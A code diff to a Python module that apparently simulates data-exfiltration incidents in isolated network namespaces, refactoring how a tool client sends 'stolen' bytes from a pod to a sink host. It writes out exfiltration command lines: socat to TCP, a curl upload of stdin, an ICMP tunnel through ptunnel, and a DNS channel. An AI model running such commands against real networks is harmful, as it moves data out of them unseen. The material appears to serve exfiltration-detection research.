@@ -22,7 +22,7 @@ from mimir.cluster.netns import launch
 from mimir.cluster.netns.application import Application
 from mimir.cluster.netns.dns import Outside
 from mimir.cluster.netns.hosts import Host, PodHost
-from mimir.cluster.netns.layout import CLUSTER_ZONE, DNS_PORT, Layout
+from mimir.cluster.netns.layout import DNS_PORT, Layout
 from mimir.cluster.netns.requirements import tool as path_of
 from mimir.cluster.netns.tasks import BROKEN
 from mimir.errors import MimirError
@@ -36,14 +36,6 @@ _READY_S, _TRY_S, _LAST_S, _LAUNCH_S, _END_S = 30.0, 0.1, 30.0, 0.5, 1.0
 _TUNNEL = "dns0"
 _ECHO = Path("/proc/sys/net/ipv4/icmp_echo_ignore_all")
 _TAIL = 400
-
-
-def pod_resolv_conf(layout: Layout, namespace: str) -> str:
-    """/etc/resolv.conf of a pod."""
-    dns = layout.cluster.dns
-    return launch.resolv_conf(
-        layout.cluster.addresses.dns_service, [f"{namespace}.svc.{CLUSTER_ZONE}", *dns.search], dns.ndots
-    )
 
 
 @dataclass
@@ -70,7 +62,7 @@ def ends_of(spec: ExfiltrationSpec, layout: Layout) -> Ends:
         server = ["socat", "-u", f"TCP4-LISTEN:{port},bind={sink},reuseaddr", "STDOUT"]
         return Ends(server, ["socat", "-u", "STDIN", f"TCP4:{sink}:{port}"], None, None, ready=("tcp", port))
     if spec.channel == "tool_curl":
-        client = ["curl", "-sS", "-N", "-T", "-", f"http://{sink}:{port}/upload"]
+        client = ["curl", "-q", "-sS", "-N", "--noproxy", "*", "-T", "-", f"http://{sink}:{port}/upload"]
         return Ends([], client, None, (sink, port), http=True)
     if spec.channel == "tool_ptunnel":
         client = ["ptunnel", "-p", sink, "-lp", str(_NEAR_PORT), "-da", sink, "-dp", str(_COLLECT)]
@@ -132,7 +124,11 @@ class ToolAct:
         self._programs: list[Program] = []
         self.left: list[tuple[float, bytes]] = []
         self.arrived: list[tuple[float, bytes]] = []
-        self._received, self._all, self._lost = 0, asyncio.Event(), False
+        self._received, self._all = 0, asyncio.Event()
+        self._random = random
+        self._client: Program | None = None
+        self._server: asyncio.Server | None = None
+        self._lost = False  # with its pod
 
     @property
     def pods(self) -> tuple[str, ...]:
@@ -140,46 +136,57 @@ class ToolAct:
         return (self._store.pod.name, *[""] * (len(self.incident.path) - 1))
 
     def gone(self, host: PodHost) -> None:
-        """A pod's process has ended: if it was the store's, the tool ended with it, and the leak with the tool."""
-        if host is self._store:
+        """A pod's process has ended: if it was the store's, the tool ends with it, and the leak with the tool."""
+        if host is self._store and self._client:
             self._lost = True
+            self._all.set()
+            if self._client.process.returncode is None:
+                self._client.process.kill()
 
     async def run(self) -> None:
         """Server end, client end, data as planned, until all arrived or nothing comes any more. MimirError from a tool that fails."""
-        hosts, ends = self._it.hosts, self._ends
-        server: asyncio.Server | None = None
         try:
             self._ignore_echo(True)
-            if ends.server:
-                await self._start(ends.server, hosts.outside, config=ends.config, gives=ends.exit is None)
-                await self._until(self._ready)
-            if self._spec.dns:
-                self._outside.zone_server = lambda: hosts.outside.datagrams(
-                    self._it.layout.cluster.addresses.sink, DNS_PORT
-                )
-            await asyncio.sleep(max(0.0, self.incident.start_s - _LAUNCH_S - time.time()))
-            if ends.exit:
-                server = await self._until(lambda: hosts.outside.listen(self._collect, ends.exit[1], ends.exit[0]))  # type: ignore[index]
-            client = await self._start(ends.client, self._store, takes=ends.entry is None)
-            writer = client.process.stdin
-            await self._until(self._tunnelled)
-            if ends.entry:
-                _, writer = await self._until(lambda: self._store.connect(*ends.entry))  # type: ignore[misc]
-            assert writer
-            await self._feed(writer)
-            with suppress(TimeoutError):  # programs that end by themselves close their connections
-                await asyncio.wait_for(client.process.wait(), _END_S)
+            await self._act()
+        except MimirError:
+            if not self._lost:
+                raise
         finally:
-            if server:
-                server.close()
+            if self._server:
+                self._server.close()
             for program in self._programs:
                 await launch.end(program.process)
             self._outside.zone_server = None
             self._ignore_echo(False)
 
+    async def _act(self) -> None:
+        hosts, ends = self._it.hosts, self._ends
+        if ends.server:
+            await self._start(ends.server, hosts.outside, config=ends.config, gives=ends.exit is None)
+            await self._until(self._ready)
+        if self._spec.dns:
+            self._outside.zone_server = lambda: hosts.outside.datagrams(
+                self._it.layout.cluster.addresses.sink, DNS_PORT
+            )
+        await asyncio.sleep(max(0.0, self.incident.start_s - _LAUNCH_S - time.time()))
+        if ends.exit:
+            self._server = await self._until(lambda: hosts.outside.listen(self._collect, ends.exit[1], ends.exit[0]))  # type: ignore[index]
+        self._store = await hosts.another(self._store, self._random)
+        client = self._client = await self._start(ends.client, self._store, takes=ends.entry is None)
+        writer = client.process.stdin
+        await self._until(self._tunnelled)
+        if ends.entry:
+            _, writer = await self._until(lambda: self._store.connect(*ends.entry))  # type: ignore[misc]
+        assert writer
+        await self._feed(writer)
+        with suppress(TimeoutError):  # programs that end by themselves close their connections
+            await asyncio.wait_for(client.process.wait(), _END_S)
+
     async def _feed(self, writer: asyncio.StreamWriter) -> None:
         for at, data in zip(self.incident.message_ns.tolist(), stolen_bytes(self.incident), strict=True):
             await asyncio.sleep(max(0.0, (at - time.time_ns()) / NS_PER_S))
+            if self._lost:
+                return
             self.left.append((time.time(), data))
             try:
                 writer.write(data)
@@ -207,7 +214,7 @@ class ToolAct:
             )
         pipe, nothing = asyncio.subprocess.PIPE, asyncio.subprocess.DEVNULL
         process = await launch.start(
-            host.namespace, pod_resolv_conf(self._it.layout, self._store.pod.namespace), [path, *arguments],
+            host.namespace, self._it.layout.resolv_conf(self._store.pod.namespace), [path, *arguments],
             stdin=pipe if takes or config else nothing, stderr=pipe,
         )  # fmt: skip
         made = Program(process)
